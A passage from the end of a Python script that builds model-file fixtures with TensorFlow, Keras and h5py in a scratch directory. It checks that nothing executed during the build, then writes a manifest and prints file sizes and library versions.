        os.environ[MARKER_ENV] = scratch
        cwd = os.getcwd()
        os.chdir(scratch)
        try:
            for build in BUILDERS:
                build()
        finally:
            os.chdir(cwd)
        ran = sorted(os.listdir(scratch))
    del os.environ[MARKER_ENV]
    after = _stray_tmp_files()
    if ran or after - before:
        raise SystemExit(f"a payload ran while building: {ran} {sorted(after - before)}")

    import h5py
    import keras
    import numpy as np
    import tensorflow as tf
    import tf_keras

    versions = (f"python {sys.version.split()[0]}, tensorflow {tf.__version__}, keras {keras.__version__}, "
                f"tf_keras {tf_keras.__version__}, h5py {h5py.__version__}, numpy {np.__version__}")
    for root, dirs, files in os.walk(OUT, topdown=False):
        if not dirs and not files and root != OUT:
            os.rmdir(root)  # the empty assets/ a SavedModel saver creates: git would drop it anyway
    for entry in MANIFEST:
        assert os.path.exists(out(entry["file"])), entry["file"]
    with open(out("MANIFEST.json"), "w") as f:
        json.dump(MANIFEST, f, indent=1)
        f.write("\n")
    total = 0
    for root, _, files in sorted(os.walk(OUT)):
        for name in sorted(files):
            full = os.path.join(root, name)
            total += os.path.getsize(full)
            print(f"{os.path.getsize(full):>9}  {os.path.relpath(full, OUT)}")
    print(f"{total:>9}  total; {len(MANIFEST)} manifest entries; written with {versions}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
